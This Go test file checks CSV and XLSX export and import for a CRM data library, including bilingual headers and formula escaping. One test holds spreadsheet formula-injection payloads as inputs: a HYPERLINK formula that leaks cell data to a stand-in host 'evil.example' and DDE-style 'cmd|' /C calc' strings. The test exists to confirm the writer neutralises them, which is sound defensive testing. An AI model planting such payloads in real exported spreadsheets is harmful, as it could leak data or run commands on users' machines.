package sheet

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/kexi/kexi"
)

// sample returns one or two records of every kind, with every exported field set.
func sample() map[string]any {
	at := time.Date(2024, 6, 30, 8, 26, 5, 0, time.UTC)
	day := time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC)
	return map[string]any{
		kexi.KindCustomers: []kexi.Customer{
			{ExternalID: "C1", Name: "张三, Ltd", Kind: kexi.Enterprise, Gender: "male", BirthDate: day, Age: 41,
				Income: 120000.5, IncomeBand: "high", Occupation: "engineer", Education: "本科", Country: "中国",
				Province: "广东省", City: "深圳", Phone: "13800000000", Email: "a@b.cn", Channel: "online",
				Campaign: "K1", Owner: "li", Tags: []string{"vip", "早鸟"}, Churned: true, ChurnedAt: at,
				Custom: map[string]string{"plan": "gold", "seats": "3"}, CreatedAt: day},
			{ExternalID: "C2", Name: "Bob \"the\" Builder"},
		},
		kexi.KindOrders: []kexi.Order{
			{ExternalID: "O1", Customer: "C1", OrderedAt: at, Amount: 2016, Cost: 1000, Shipping: 12.5, Discount: 3,
				Returned: 1, Channel: "app", Status: kexi.StatusCompleted, Province: "广东省", City: "深圳",
				Items: []kexi.OrderItem{{SKU: "P1", Name: "Mug", Category: "kitchen", Quantity: 6, UnitPrice: 2.55, UnitCost: 1},
					{SKU: "P2", Name: "Plate", Quantity: 1.5, UnitPrice: 0.5}}},
			{ExternalID: "O2", Customer: "C2", OrderedAt: day, Returned: 9.99, Status: kexi.StatusReturn},
		},
		kexi.KindProducts: []kexi.Product{{ExternalID: "P1", Name: "Mug", Category: "kitchen", Price: 2.55, Cost: 1}},
		kexi.KindInteractions: []kexi.Interaction{{ExternalID: "I1", Customer: "C1", At: at, Kind: kexi.Complaint,
			Channel: "phone", Minutes: 12.5, Rep: "wang", Subject: "late", Notes: "line 1\nline 2"}},
		kexi.KindEvents: []kexi.WebEvent{{ExternalID: "E1", Customer: "C1", AnonymousID: "a1", At: at, Type: "page_view",
			Page: "/p?x=1", Dwell: 3.5, SessionID: "s1"}},
		kexi.KindSurveys: []kexi.SurveyResponse{{ExternalID: "S1", Customer: "C1", At: at, Kind: kexi.NPS, Score: 9,
			Channel: "questionnaire", Comment: "好"}},
		kexi.KindLeads: []kexi.Lead{{ExternalID: "L1", Name: "Ann", Company: "Acme", Source: "paid_search", Campaign: "K1",
			Owner: "li", Stage: kexi.StageWon, Stages: []kexi.StageEntry{{Stage: kexi.StageNew, EnteredAt: day},
				{Stage: kexi.StageQuote, EnteredAt: at}, {Stage: kexi.StageWon, EnteredAt: at.AddDate(0, 0, 1)}},
			LostReason: "", Value: 5000, Customer: "C1", Custom: map[string]string{"segment": "pet"}, CreatedAt: day}},
		kexi.KindCampaigns: []kexi.Campaign{{ExternalID: "K1", Name: "618", Channel: "sms", Start: day, End: at,
			Cost: 10000, TargetSegment: "vip"}},
		kexi.KindResponses: []kexi.CampaignResponse{{ExternalID: "R1", Campaign: "K1", Customer: "C1", At: at, Kind: "bought",
			Value: 99.5, Control: true}},
		kexi.KindCompetitors: []kexi.Competitor{{ExternalID: "X1", Name: "Rival", Self: true, Products: "mugs",
			Positioning: "low", Shares: []kexi.MarketShare{{Period: "2025", Region: "华南", Share: 0.31}, {Period: "2025-Q3", Share: 0.3}},
			Notes: "n"}},
		kexi.KindSWOT: []kexi.SWOTItem{{ExternalID: "W1", Kind: "O", Text: "new market", Impact: 4, Scope: "company",
			Metric: "satisfaction.nps"}},
	}
}

// got returns the records of a kind from a batch, as the same slice type as sample.
func got(b *kexi.Batch, kind string) any {
	switch kind {
	case kexi.KindCustomers:
		return b.Customers
	case kexi.KindOrders:
		return b.Orders
	case kexi.KindProducts:
		return b.Products
	case kexi.KindInteractions:
		return b.Interactions
	case kexi.KindEvents:
		return b.Events
	case kexi.KindSurveys:
		return b.Surveys
	case kexi.KindLeads:
		return b.Leads
	case kexi.KindCampaigns:
		return b.Campaigns
	case kexi.KindResponses:
		return b.Responses
	case kexi.KindCompetitors:
		return b.Competitors
	case kexi.KindSWOT:
		return b.SWOT
	}
	return nil
}

func TestRoundTrip(t *testing.T) {
	for kind, recs := range sample() {
		for _, format := range []string{CSV, XLSX} {
			for _, lang := range []string{"en", "zh"} {
				var buf bytes.Buffer
				if err := WriteIn(&buf, kind, format, lang, time.UTC, recs); err != nil {
					t.Fatalf("%s %s %s: %v", kind, format, lang, err)
				}
				// the kind is recognised from the written headers
				res, err := Read(bytes.NewReader(buf.Bytes()), kind+"."+format, Options{})
				if err != nil {
					t.Fatalf("%s %s %s: read back: %v\n%s", kind, format, lang, err, buf.String())
				}
				if res.Kind != kind || len(res.Unknown) > 0 {
					t.Errorf("%s %s %s: read back as %s, unknown %v", kind, format, lang, res.Kind, res.Unknown)
				}
				if g := got(res.Batch, kind); !reflect.DeepEqual(g, recs) {
					t.Errorf("%s %s %s: round trip\n got %+v\nwant %+v\n%s", kind, format, lang, g, recs, buf.String())
				}
			}
		}
	}
}

func TestWriteHeaders(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteIn(&buf, "customers", "csv", "zh", time.UTC, []*kexi.Customer{{ExternalID: "C1", Name: "张三", Age: 30}}); err != nil {
		t.Fatal(err)
	}
	s := buf.String()
	if !strings.HasPrefix(s, "\ufeff客户编号,客户名称,客户类型,性别,出生日期,年龄,收入,") || !strings.Contains(s, "\nC1,张三,,,,30,") {
		t.Errorf("zh csv:\n%s", s)
	}
	buf.Reset()
	WriteIn(&buf, "customers", "csv", "en", time.UTC, []kexi.Customer{{ExternalID: "C1"}})
	if !strings.HasPrefix(buf.String(), "External ID,Name,Kind,Gender,") {
		t.Errorf("en csv:\n%s", buf.String())
	}
	if err := WriteIn(&buf, "customers", "pdf", "en", time.UTC, []kexi.Customer{}); kexi.ErrorCode(err) != kexi.EINVALID {
		t.Errorf("pdf: %v", err)
	}
	if err := WriteIn(&buf, "customers", "csv", "en", time.UTC, []kexi.Order{{}}); kexi.ErrorCode(err) != kexi.EINVALID {
		t.Errorf("orders as customers: %v", err)
	}
}

// TestWriteEscapesFormulas: text a spreadsheet would run as a formula is written with an
// apostrophe in front, in CSV (XLSX holds it as text anyway), numbers stay numbers, and the
// file reads back to the same records.
func TestWriteEscapesFormulas(t *testing.T) {
	const link = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	custs := []kexi.Customer{
		{ExternalID: "C1", Name: link, City: "+cmd|' /C calc'!A0", Occupation: "@SUM(1+1)*cmd|' /C calc'!A0",
			Phone: "-2+3", Custom: map[string]string{"balance": "-5", "note": "'=already quoted", "plain": "'quoted"}},
		{ExternalID: "C2", Name: "-", Income: -1200.5, Custom: map[string]string{"balance": "+3.5e2"}},
	}
	for _, format := range []string{CSV, XLSX} {
		var buf bytes.Buffer
		if err := WriteIn(&buf, kexi.KindCustomers, format, "en", time.UTC, custs); err != nil {
			t.Fatal(err)
		}
		if format == CSV {
			recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			var cells []string
			for _, r := range recs {
				cells = append(cells, r...)
			}
			for _, want := range []string{"'" + link, "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "-5",
				"''=already quoted", "'quoted", "'-", "-1200.5", "+3.5e2"} {
				if !slices.Contains(cells, want) {
					t.Errorf("no cell %q in\n%s", want, buf.String())
				}
			}
			for _, c := range cells {
				if _, err := strconv.ParseFloat(c, 64); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && err != nil {
					t.Errorf("cell %q would run as a formula", c)
				}
			}
		}
		res, err := Read(bytes.NewReader(buf.Bytes()), "customers."+format, Options{})
		if err != nil {
			t.Fatal(err)
		}
		got := res.Batch.Customers
		want := []kexi.Customer{custs[0], custs[1]}
		want[1].Custom = map[string]string{"balance": "350"} // a number custom field in canonical form
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s round trip\n got %+v\nwant %+v", format, got, want)
		}
	}
}

func TestEscapeFormula(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "abc": "abc", "=1+1": "'=1+1", "+1": "+1", "+86 138": "'+86 138", "-5": "-5", "-.5": "-.5", "1e5": "1e5",
		"-1e-5": "-1e-5", "-e5": "'-e5", "-": "'-", "@x": "'@x", "\tx": "'\tx", "\r=x": "'\r=x", "'x": "'x",
		"'=x": "''=x", "''": "''", "-1,000": "'-1,000", "- 5": "'- 5", "3-4": "3-4",
	} {
		got := EscapeFormula(in)
		if got != want {
			t.Errorf("EscapeFormula(%q) = %q, want %q", in, got, want)
		}
		if back := unescapeFormula(got); back != in {
			t.Errorf("unescapeFormula(%q) = %q, want %q", got, back, in)
		}
	}
}
